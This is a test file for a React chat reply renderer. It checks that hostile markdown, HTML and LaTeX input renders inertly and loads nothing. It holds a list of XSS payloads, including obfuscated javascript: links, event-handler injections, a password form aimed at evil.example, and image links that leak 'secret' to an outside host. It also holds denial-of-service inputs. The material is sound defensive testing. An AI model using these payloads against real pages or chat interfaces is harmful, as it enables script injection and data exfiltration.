import { render, waitFor } from '@testing-library/react'
import { describe, expect, it, vi } from 'vitest'
import { Reply } from './Reply.tsx'
import { maxMessageLength } from './visible-text.ts'

function show(text: string) {
  return render(<Reply text={text} />).container
}

const allowedElements = new Set(
  (
    'a article aside bdi blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre section span strong sup svg path rect table tbody ' +
    'td th thead tr ul math semantics mrow mi mn mo mtext mstyle mspace annotation mfrac msup msqrt mpadded menclose'
  ).split(' '),
)

const attacks = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<iframe src="javascript:window.hacked = 1"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>* { display: none }</style>',
  '<a href="https://ok.example" onclick="window.hacked = 1">x</a>',
  '[x](javascript:window.hacked=1)',
  '[x](JaVaScRiPt:window.hacked=1)',
  '[x](java&#115;cript:window.hacked=1)',
  '[x](java&#x09;script:window.hacked=1)',
  '[x](&#1;javascript:window.hacked=1)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd) [y](//evil.example) [z](/admin/users)',
  '<javascript:window.hacked=1>',
  '[x][1]\n\n[1]: javascript:window.hacked=1',
  '![x](https://evil.example/?q=secret)',
  '![x][i]\n\n[i]: https://evil.example/?q=secret',
  '$\\href{javascript:window.hacked=1}{x}$ and $\\url{javascript:window.hacked=1}$',
  '$\\includegraphics[width=3em]{https://evil.example/x.png}$',
  '$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlClass{fixed}{x}$ $\\htmlData{a=b}{x}$',
  '$\\def\\a#1{#1#1#1#1#1#1}\\def\\b#1{\\a{\\a{\\a{#1}}}}\\b{\\b{\\b{x}}}$',
  '$\\rule{500em}{500em}$',
]

describe('Reply with hostile text', () => {
  it.each(attacks)('renders nothing active for %s', async (attack) => {
    const container = show(attack)
    await waitFor(() => expect(container.querySelector('span[dir=ltr]:empty')).toBeNull())
    for (const element of container.querySelectorAll('*')) {
      expect(allowedElements, element.outerHTML.slice(0, 200)).toContain(element.localName)
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^src|^action|^formaction|^xlink|^data-(?!state)/)
        expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data|file):/i)
      }
      if (element.localName === 'a')
        expect(element.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:|#)/)
    }
    expect(window).not.toHaveProperty('hacked')
  })

  it('limits the size of a formula to ten em', async () => {
    const container = show('$\\rule{500em}{500em}$')
    await waitFor(() => expect(container.querySelector('.katex')).not.toBeNull())
    expect(container.innerHTML).not.toContain('500em;')
  })

  it('shows tags as text', () => {
    expect(show('Use <b>this</b> and <script>alert(1)</script>.').textContent).toBe(
      'Use <b>this</b> and <script>alert(1)</script>.',
    )
  })

  it('shows an image as its description and loads nothing', () => {
    const container = show('See ![the plan](https://evil.example/p.png) and ![](https://evil.example/q.png).')
    expect(container.textContent).toBe('See the plan and (image).')
  })

  it('renders thousands of nested braces without crashing', async () => {
    const { renderFormula } = await import('./katex.ts')
    const tex = `${'{'.repeat(5_000)}x${'}'.repeat(5_000)}`
    expect(() => renderFormula(tex, document.createElement('span'), false)).toThrow(RangeError)
    expect(show(`$$${tex}$$`).textContent).toContain('{{{{')
  })

  it('renders at most 100 formulas and none above 2,000 characters', async () => {
    const container = show(
      `${Array.from({ length: 130 }, (_, n) => `$x_{${n}}$`).join(' ')}\n\n$$${'y+'.repeat(1_100)}y$$`,
    )
    await waitFor(() => expect(container.querySelectorAll('.katex')).toHaveLength(100))
    expect(container.querySelectorAll('code')).toHaveLength(31)
  })

  it('removes invisible characters, even as entities, and keeps those that writing systems need', () => {
    const hidden = 'a\u200Bb\u202Ec\u2066d\u{E0041}e&#x202E;f\uFEFFg'
    expect(show(hidden).textContent).toBe('abcdefg')
    expect(show('`x\u202Ey`').textContent).toBe('xy')
    expect(show('می\u200Cخواهم ❤\uFE0F 👩\u200D🚀').textContent).toBe('می\u200Cخواهم ❤\uFE0F 👩\u200D🚀')
  })

  it('truncates a message that is too long and says so', () => {
    const container = show(`\`\`\`\n${'word '.repeat(maxMessageLength / 5 + 1_000)}`)
    expect(container.textContent).toContain('too long to be shown in full')
    expect(container.textContent?.length).toBeLessThan(maxMessageLength + 100)
  })

  it('shows deeply nested text as plain text', () => {
    expect(show(`${'> '.repeat(300)}deep`).querySelectorAll('blockquote')).toHaveLength(0)
  })

  it.each([
    ['a quotation', `**one**\n${'> '.repeat(60)}deep\n\n**two**`, 0],
    ['a list item', `- **one**\n${'- '.repeat(60)}deep\n- **two**`, 2],
    ['a line in a reply with references', `**one** [x]\n\n${'> '.repeat(60)}deep\n\n**two**\n\n[x]: /y`, 0],
  ])('shows only the too deeply nested part of %s as plain text', (_, text, items) => {
    for (const streaming of [true, false]) {
      const { container, unmount } = render(<Reply text={text} streaming={streaming} />)
      expect([...container.querySelectorAll('strong')].map(({ textContent }) => textContent)).toEqual([
        'one',
        'two',
      ])
      expect(container.querySelectorAll('li')).toHaveLength(items)
      expect(container.querySelectorAll('blockquote')).toHaveLength(0)
      expect(container.querySelectorAll('.whitespace-pre-wrap')).toHaveLength(1)
      unmount()
    }
  })

  it('renders a nested list to the maximum depth and the rest as text', () => {
    const list = Array.from({ length: 50 }, (_, depth) => `${' '.repeat(depth * 2)}- **item ${depth}**`)
    const container = show(list.join('\n'))
    expect(container.querySelectorAll('strong').length).toBeGreaterThan(20)
    expect(container.querySelectorAll('.whitespace-pre-wrap')).toHaveLength(0)
    expect(container.textContent).toContain('item 49')
  })

  it.each([
    ['dollars', '$a '.repeat(20_000)],
    ['brackets', '\\(a '.repeat(20_000)],
    ['open displays', '\\[a '.repeat(20_000)],
    ['environments', '\\begin{align}'.repeat(2_000)],
    ['prices', '$5 aa '.repeat(20_000)],
    ['fence lines', '~~~\n'.repeat(20_000)],
    ['backticks', Array.from({ length: 400 }, (_, n) => '`'.repeat(n + 1)).join(' ')],
  ])('handles hostile %s in linear time', async (_, text) => {
    const { scanSpans } = await import('./spans.ts')
    // Quadratic work would exceed the test's time limit.
    expect(scanSpans(text).filter(({ kind }) => kind === 'maths')).toHaveLength(0)
  })

  it.each([
    ['emphasis', '**a*'.repeat(8_000)],
    ['half links', '[a]('.repeat(8_000)],
    ['brackets', '['.repeat(30_000)],
    ['quotations', '> '.repeat(8_000)],
    ['lists', Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
    ['columns', `${'|a'.repeat(8_000)}\n${'|-'.repeat(8_000)}`],
    ['tags', '<a'.repeat(15_000)],
    ['entities', '&am'.repeat(10_000)],
    ['escapes', '\\a'.repeat(10_000)],
    ['code spans', '` a `` '.repeat(5_000)],
    ['formulas', '$a$ '.repeat(1_500)],
    ['footnotes', '[^a]'.repeat(8_000)],
  ])('renders a growing block of %s in acceptable time', (_, text) => {
    const { container, rerender } = render(<Reply text={text} streaming />)
    rerender(<Reply text={text} />)
    expect(container.textContent?.length).toBeGreaterThan(0)
  })

  it('never makes a network request', () => {
    const fetched = vi.spyOn(globalThis, 'fetch')
    for (const attack of attacks) show(attack)
    expect(fetched).not.toHaveBeenCalled()
  })
})

describe('links in a reply', () => {
  it('open in a new tab without an opener', () => {
    const link = show('[read](https://example.org/a)').querySelector('a')
    expect(link?.target).toBe('_blank')
    expect(link?.rel).toBe('noopener noreferrer nofollow')
  })

  it.each([
    ['[read](https://example.org/a)', 'read (example.org)'],
    ['[https://bank.example](https://evil.example/)', 'https://bank.example (evil.example)'],
    ['[evil.example.bank.example](https://evil.example/)', 'evil.example.bank.example (evil.example)'],
    ['<https://example.org/a?b=c>', 'https://example.org/a?b=c'],
    ['see www.example.org/a now', 'see www.example.org/a now'],
    ['[write](mailto:ann@example.org)', 'write (ann@example.org)'],
    ['<ann@example.org>', 'ann@example.org'],
    ['[x](javascript:alert(1))', 'x'],
  ])('show their destination: %s becomes %s', (text, shown) => {
    expect(show(text).textContent).toBe(shown)
  })

  it.each([
    ['[read](https://u:p@host.example/a)', 'read (not a link: host.example with a user name)'],
    ['[read](https://u@host.example/a)', 'read (not a link: host.example with a user name)'],
    ['[read](https:\\\\u@host.example)', 'read (not a link: host.example with a user name)'],
    ['[read](https://:p@host.example/a)', 'read (not a link: host.example with a user name)'],
    ['<https://u:p@host.example/>', 'https://u:p@host.example/ (not a link: host.example with a user name)'],
    [
      '[https://bank.example](https://bank.example@evil.example/)',
      'https://bank.example (not a link: evil.example with a user name)',
    ],
    ['[7]\n\n[7]: https://u:p@host.example/', '[7] (not a link: host.example with a user name)'],
    [
      'see https://bank.example:p@evil.example/a',
      'see https://bank.example:p@evil.example/a (not a link: evil.example with a user name)',
    ],
    ['see https://u:p@host.example/a', 'see https://u:p@host.example/a'],
  ])('are not made of addresses with a user name: %s', (text, shown) => {
    for (const streaming of [false, true]) {
      const { container, unmount } = render(<Reply text={`${text} `} streaming={streaming} />)
      expect(container.querySelector('a')).toBeNull()
      if (!streaming) expect(container.textContent?.trim()).toBe(shown)
      unmount()
    }
  })
})
